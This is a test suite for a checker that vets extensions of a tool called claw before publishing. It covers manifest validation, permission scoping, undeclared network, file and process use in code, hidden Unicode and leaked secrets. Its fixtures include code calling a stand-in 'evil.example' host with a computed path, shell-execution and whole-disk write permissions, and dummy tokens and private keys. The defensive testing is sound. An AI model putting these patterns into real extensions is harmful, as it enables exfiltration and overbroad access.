import { describe, expect, test } from "vitest";
import { checkExtension, refuseProblems } from "../src/author/check.ts";
import { coversOrigin } from "../src/author/power-findings.ts";
import { cleanManifest, folderOf, never } from "./extension-folder.ts";
import { refusalOf } from "./refusal.ts";
import { temporaryFolder } from "./temporary-folder.ts";

type Files = Readonly<Record<string, string>>;

/** What is said of a folder: level, where and what. */
async function saidOf(files: Files, known: readonly string[] = []): Promise<readonly string[]> {
  using folder = temporaryFolder(files);
  const { findings } = await checkExtension(folder.path, { known }, never);
  for (const { fix } of findings) expect(fix).not.toBe("");
  return findings.map(({ level, where, what }) => `${level} ${where.replace(folder.path, "it")} ${what}`);
}

const withManifest = (more: Readonly<Record<string, unknown>>, files: Files = {}): Files => folderOf({ ...cleanManifest(), ...more }, files);
const withCode = (code: string, more: Readonly<Record<string, unknown>> = {}): Files => withManifest(more, { "dist/index.mjs": code });
const asking = (permissions: Readonly<Record<string, unknown>>, more: Readonly<Record<string, unknown>> = {}): Files => withManifest({ permissions, ...more });
const problems = async (files: Files): Promise<readonly string[]> => (await saidOf(files)).filter((each) => each.startsWith("problem"));

test("a folder with nothing wrong has no findings, and says what it weighs", async () => {
  using folder = temporaryFolder(folderOf());
  const report = await checkExtension(folder.path, {}, never);
  expect(report).toMatchObject({ name: "acme/count", version: "1.0.0", findings: [], packed: { fileName: "count-1.0.0.tgz" } });
  expect(refusalOf(() => refuseProblems(report))).toBe("accepted");
});

test("problems are refused together, warnings are not", async () => {
  using folder = temporaryFolder(
    withManifest({ provides: { view: { count: { description: " " } } }, config: { type: "object", properties: { a: { type: "string" } } } }),
  );
  const report = await checkExtension(folder.path, {}, never);
  expect(() => refuseProblems(report)).toThrow(
    'acme/count is not fit to be published: extension.json: provides.view.count has no description ("description": "What it does, in one line"), and 1 more',
  );
  expect(refusalOf(() => refuseProblems({ ...report, findings: report.findings.map((each) => ({ ...each, level: "warning" })) }))).toBe("accepted");
});

describe("the manifest", () => {
  test("that is no manifest is said to be none, with the line that makes it one", async () => {
    using folder = temporaryFolder(folderOf({ name: "Acme", version: "1" }));
    const { findings } = await checkExtension(folder.path, {}, never);
    expect(findings).toContainEqual({ level: "problem", where: "extension.json: permissions", what: "is missing", fix: '"permissions": {}' });
    expect(findings).toContainEqual({
      level: "problem",
      where: "extension.json: version",
      what: 'must have the form "1.4.0", not "1"',
      fix: '"version": "1.0.0"',
    });
  });

  test.each([
    [{ name: "acme/con" }, 'problem extension.json: name must have the form "acme/bedrock", not "acme/con"'],
    [{ engines: { claw: "one" } }, 'problem extension.json: engines.claw "one" is no range of versions'],
    [{ dependencies: { "acme/b": "x.y" } }, 'problem extension.json: dependencies.acme/b "x.y" is no range of versions'],
    [{ dependencies: { "acme/count": "^1.0.0" } }, "problem extension.json: dependencies acme/count depends on itself"],
    [{ main: "./dist/other.mjs" }, "problem extension.json: main ./dist/other.mjs is not in the package"],
    [
      { content: { skills: ["./skills/*/SKILL.md"] }, permissions: { prompt: true } },
      "problem extension.json: content.skills ./skills/*/SKILL.md is no file of the package",
    ],
    [{ description: undefined }, "warning extension.json: description is missing, and search shows nothing else"],
  ])("%j", async (more, said) => {
    expect(await saidOf(withManifest(more))).toEqual([said]);
  });

  test("a name that is easily taken for another's is warned of", async () => {
    expect(await saidOf(withManifest({ name: "acne/count" }), ["acme/count"])).toEqual([
      "warning extension.json: name acne/count is easily taken for acme/count",
    ]);
  });
});

describe("permissions", () => {
  test.each([
    ["https://*", "stands for hosts of everybody"],
    ["https://*.com", "stands for hosts of everybody"],
    ["https://api.*.com", "stands for hosts of everybody"],
    ["https://*.co.uk", "stands for everybody who has a name under co.uk"],
    ["https://*.github.io", "stands for everybody who has a name under github.io"],
    ["http://api.acme.example", "is not encrypted"],
    ["ws://api.acme.example", "is not encrypted"],
    ["https://10.0.0.1", "is an address"],
    ["https://[::1]", "is an address"],
    ["https://localhost", "is a host of the local network"],
    ["https://api.acme.example:99999", "has no such port"],
    ["https://api.acme.example/path", "is no origin"],
    ["config:address", "names no property of config"],
    ["config:any", "names no property of config"],
  ])("the origin %s %s", async (origin, what) => {
    expect(await problems(asking({ net: [origin] }, { uses: ["http"] }))).toEqual([
      `problem extension.json: permissions.net.0 ${JSON.stringify(origin)} ${what}`,
    ]);
  });

  test.each([
    { net: ["https://bedrock-runtime.*.amazonaws.com"] },
    { net: ["https://*.api.acme.example:8443"] },
    { net: ["http://10.0.0.1"], netPrivate: true, netInsecure: true },
    { net: ["config:address"] },
    { net: ["config:servers"] },
  ])("%j is fine", async (permissions) => {
    const address = { type: "string", format: "uri", description: "Where" };
    const server = { type: "object", properties: { url: address } };
    const config = { type: "object", properties: { address, servers: { type: "object", description: "By name", additionalProperties: server } } };
    expect(await problems(asking(permissions, { uses: ["http"], config }))).toEqual([]);
  });

  test.each([
    [{ fs: { read: ["home:**"] } }, 'fs.read.0 "home:**" names no place'],
    [{ fs: { write: ["data:../x"] } }, 'fs.write.0 "data:../x" steps out of its place'],
    [{ fs: { read: ["workspace:/etc"] } }, 'fs.read.0 "workspace:/etc" is absolute'],
    [{ exec: [{ cmd: "/bin/sh" }] }, 'exec.0 "/bin/sh" is a path'],
    [{ exec: [{ cmd: "git push" }] }, 'exec.0 "git push" is more than a name'],
    [{ exec: [{ cmd: "git", args: ["**", "push"] }] }, 'exec.0 has a pattern after "**", which stands for all the rest'],
    [{ env: ["ACME_KEY_FILE", "ACME_TOKEN"] }, "env.1 ACME_TOKEN holds a secret by its name, and secrets are not read from the environment"],
    [{ env: ["ACME_API_KEY"] }, "env.0 ACME_API_KEY holds a secret by its name, and secrets are not read from the environment"],
    [{ env: ["ACME_*"] }, 'env.0 "ACME_*" stands for many variables'],
    [{ secrets: ["acme.*"] }, 'secrets.0 "acme.*" stands for many secrets'],
  ])("%j is a problem once", async (permissions, said) => {
    expect(await problems(asking(permissions))).toEqual([`problem extension.json: permissions.${said}`]);
  });

  test.each([
    [{ fs: { write: ["path:/**"] } }, 'permissions.fs.write.0 "path:/**" lets every file of the machine be written'],
    [{ exec: [{ cmd: "bash", args: ["**"] }] }, "permissions.exec.0 bash runs whatever it is told to"],
    [{ exec: [{ cmd: "*" }] }, "permissions.exec.0 asks to run any program"],
  ])("%j is warned of", async (permissions, said) => {
    expect(await saidOf(asking(permissions, { uses: ["workspace?", "processes?"] }))).toContain(`warning extension.json: ${said}`);
  });

  test("an origin covers what its stars stand for, label by label", () => {
    const covered = [
      "https://a.acme.example",
      "https://a.b.acme.example",
      "https://acme.example",
      "https://aXacme.example",
      "wss://a.acme.example",
      "http://a.acme.example",
    ];
    expect(covered.filter((origin) => coversOrigin("https://*.acme.example", origin))).toEqual(["https://a.acme.example", "wss://a.acme.example"]);
  });
});

describe("a use is a power and needs its permission", () => {
  test.each([
    ["workspace", "fs"],
    ["http", "net"],
    ["processes", "exec"],
    ["secrets", "secrets"],
    ["models", "models"],
    ["sessions", "conversation"],
    ["session-store", "conversation"],
    ["tool", "tools"],
    ["asker", "ui"],
  ])("%s needs %s", async (use, permission) => {
    expect(await problems(withManifest({ uses: [use] }))).toEqual([`problem extension.json: permissions uses ${use} and does not ask for ${permission}`]);
    expect(await problems(withManifest({ uses: [`${use}?`] }))).toEqual([`problem extension.json: permissions uses ${use} and does not ask for ${permission}`]);
  });

  test("an optional use may ask for it as an option", async () => {
    const optionalPermissions = { models: true };
    expect(await problems(withManifest({ uses: ["models?"], optionalPermissions }))).toEqual([]);
    expect((await problems(withManifest({ uses: ["models"], optionalPermissions }))).length).toBe(1);
  });

  test("a stage of a hook needs to see the conversation, or to change it", async () => {
    const hooks = { PreToolUse: { guard: {} }, UserPromptSubmit: { rewrite: {} }, Stop: { decide: {} }, PrePluginInstall: { guard: {} } };
    expect(await problems(withManifest({ hooks, permissions: { conversation: "read" } }))).toEqual([
      "problem extension.json: permissions.conversation taps UserPromptSubmit in stage rewrite, which changes the conversation",
      "problem extension.json: permissions.conversation taps Stop in stage decide, which changes the conversation",
    ]);
    expect((await problems(withManifest({ hooks }))).length).toBe(3);
    expect(await problems(withManifest({ hooks, permissions: { conversation: "write" } }))).toEqual([]);
  });

  test("content needs what it does", async () => {
    const content = {
      skills: ["./skills/a/SKILL.md"],
      bin: ["./bin/tool"],
      hookScripts: "./hooks/hooks.json",
      mcpServers: { far: { type: "http", url: "https://mcp.acme.example/x" }, near: { command: "npx" } },
    };
    const files = { "skills/a/SKILL.md": "# A\n", "bin/tool": "#!/bin/sh\n", "hooks/hooks.json": "{}" };
    expect((await problems(withManifest({ content }, files))).map((each) => each.replace("problem extension.json: ", ""))).toEqual([
      "permissions.prompt brings skills, which a model reads",
      "permissions.native brings the program ./bin/tool",
      "permissions.conversation brings hook scripts, which see the conversation",
      "permissions.exec brings hook scripts and asks to run nothing",
      "content.mcpServers.far is at https://mcp.acme.example, which permissions.net does not name",
      'content.mcpServers.near is started with "npx", which permissions.exec does not name',
    ]);
    const permissions = { prompt: true, native: true, conversation: "read", net: ["https://mcp.acme.example"], exec: [{ cmd: "npx", args: ["acme-mcp"] }] };
    expect(await problems(withManifest({ content, permissions }, files))).toEqual([]);
  });

  test("what can only be trusted is said, and what is asked for in vain", async () => {
    expect(await saidOf(asking({ models: true, tools: ["bash"], conversation: "write", native: true, prompt: true }, { uses: ["host"] }))).toEqual([
      "warning extension.json: permissions.prompt is asked for, and there is no text for a model",
      "warning extension.json: permissions.native is asked for, and there is no program",
      "warning extension.json: permissions.models is asked for, and the service models is not used",
      "warning extension.json: permissions.tools is asked for, and the slot tool is not used",
      "warning extension.json: permissions.conversation is asked for, and no hook, service or slot of it sees one",
      "warning extension.json can only run trusted, in claw's own process: it uses host",
    ]);
  });
});

describe("the code", () => {
  const idle = "export default { api: 1, activate() {} };";

  test.each([
    [`import { readFileSync } from "node:fs"; readFileSync("x"); ${idle}`, "dist/index.mjs:1 imports node:fs, and permissions.fs asks for nothing"],
    [`\nimport { spawn } from "node:child_process"; spawn("x"); ${idle}`, "dist/index.mjs:2 imports node:child_process, and permissions.exec asks for nothing"],
    [`export { connect } from "node:net"; ${idle}`, "dist/index.mjs:1 imports node:net, and permissions.net asks for nothing"],
    [`await fetch(location); ${idle}`, "dist/index.mjs:1 uses fetch, and permissions.net asks for nothing"],
    [`console.log(process.env.ACME_REGION); ${idle}`, "dist/index.mjs:1 reads the environment variable ACME_REGION, which permissions.env does not name"],
    [`console.log(process.env["ACME_REGION"]); ${idle}`, "dist/index.mjs:1 reads the environment variable ACME_REGION, which permissions.env does not name"],
    [`http.get("https://evil.example/x"); ${idle}`, "dist/index.mjs:1 asks https://evil.example, which permissions.net does not name"],
    ["http.get(`https://evil.example/${x}`); " + idle, "dist/index.mjs:1 asks https://evil.example, which permissions.net does not name"],
  ])("%s", async (code, said) => {
    expect(await problems(withCode(code))).toEqual([`problem ${said}`]);
    expect((await saidOf(withCode(code, { uses: ["host"] }))).filter((each) => each.includes(said))).toEqual([`warning ${said}`]);
  });

  test("that asks for what it does is fine, and so is a function of its own that is called fetch", async () => {
    const code = `import { readFileSync } from "node:fs"; readFileSync("x"); fetch("https://api.acme.example/x"); console.log(process.env.ACME_REGION); ${idle}`;
    const permissions = { fs: { read: ["data:**"] }, net: ["https://*.acme.example"], env: ["ACME_REGION"] };
    expect(await saidOf(withCode(code, { permissions }))).toEqual([]);
    expect(await saidOf(withCode(`const fetch = () => 1; fetch(); ${idle}`))).toEqual([]);
    expect(await saidOf(withCode(`// see https://docs.example/x\nexport const help = "https://docs.example"; ${idle}`))).toEqual([]);
  });

  test("of a lazy chunk is only warned of, and what is imported at once counts wherever it is", async () => {
    const lazy = folderOf(cleanManifest(), { "dist/index.mjs": `import("./a.mjs"); ${idle}`, "dist/a.mjs": `import "node:fs";` });
    expect(await saidOf(lazy)).toEqual(["warning dist/a.mjs:1 imports node:fs, and permissions.fs asks for nothing"]);
    const eager = folderOf(cleanManifest(), { "dist/index.mjs": `import "./a.mjs"; ${idle}`, "dist/a.mjs": `import "node:fs";` });
    expect(await saidOf(eager)).toEqual(["problem dist/a.mjs:1 imports node:fs, and permissions.fs asks for nothing"]);
  });

  test.each([
    [`await import(name); ${idle}`, "imports what it computes, so nobody can say what it does"],
    ["await import(`./${name}`); " + idle, "imports what it computes, so nobody can say what it does"],
    [`eval("1"); ${idle}`, "makes code of text, so nobody can say what it does"],
    [`new Function("1"); ${idle}`, "makes code of text, so nobody can say what it does"],
    [`process.binding("fs"); ${idle}`, "reaches into Node, so nobody can say what it does"],
    [`process.env[name]; ${idle}`, "reads an environment variable whose name it computes, so nobody can say what it does"],
    [`process.getBuiltinModule("fs"); ${idle}`, "loads modules by other means than import, so nobody can say what it does"],
    [`import { Worker } from "node:worker_threads"; new Worker("x"); ${idle}`, "imports node:worker_threads, which no tier but trusted gives"],
  ])("%s is warned of", async (code, what) => {
    expect(await saidOf(withCode(code))).toEqual([`warning dist/index.mjs:1 ${what}`]);
  });

  test("that is no code is warned of, and nothing of it runs", async () => {
    expect(await saidOf(withCode("export default {{{"))).toEqual([expect.stringMatching(/^warning dist\/index.mjs cannot be analysed: /)]);
    expect(await saidOf(withCode("throw new Error('it ran');"))).toEqual([]);
  });

  test("shows what is asked for and never used", async () => {
    const permissions = {
      fs: { read: ["data:**"] },
      net: ["https://api.acme.example"],
      exec: [{ cmd: "git", args: ["status"] }],
      env: ["ACME_REGION"],
      secrets: ["acme.token"],
    };
    expect(await saidOf(asking(permissions))).toEqual([
      ...["fs", "exec", "net", "secrets"].map((one) => `warning extension.json: permissions.${one} is asked for, and the code shows no use of it`),
      "warning extension.json: permissions.env asks for ACME_REGION, which stands nowhere in the code",
      "warning extension.json: permissions.secrets asks for acme.token, which stands nowhere in the code",
      "warning extension.json: permissions.net asks for api.acme.example, which stands nowhere in the code",
    ]);
  });
});

describe("the files", () => {
  const token = `ghp_${"a1B2".repeat(9)}`;

  test("hold nothing that nobody can see", async () => {
    expect(await saidOf(folderOf(cleanManifest(), { "README.md": "# It\n\u202Ereversed" }))).toEqual([
      "problem README.md at byte 5 holds U+202E, which nobody can see",
    ]);
  });

  test("hold no secret", async () => {
    expect(await saidOf(folderOf(cleanManifest(), { "README.md": `# It\n\ntoken ${token}\n` }))).toEqual([
      "problem README.md:3 holds what looks like a secret (github-token)",
    ]);
    expect(await saidOf(folderOf(cleanManifest(), { "keys/acme.pem": "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n" }))).toEqual([
      "problem keys/acme.pem is a file that holds secrets by its name",
      "problem keys/acme.pem:1 holds what looks like a secret (private-key)",
    ]);
    expect(await saidOf(folderOf(cleanManifest(), { "README.md": "https://user:hunter2@acme.example" }))).toEqual([
      "warning README.md:1 holds what looks like a secret (password)",
    ]);
  });

  test("have a README, and can be packed", async () => {
    using folder = temporaryFolder({ "extension.json": JSON.stringify(cleanManifest()), "dist/index.mjs": "export default {};" });
    expect((await checkExtension(folder.path, {}, never)).findings.map(({ where }) => where)).toEqual(["README.md"]);
    expect(await problems(folderOf(cleanManifest(), { "a b.txt": "x" }))).toEqual([expect.stringContaining("cannot be packed")]);
  });
});
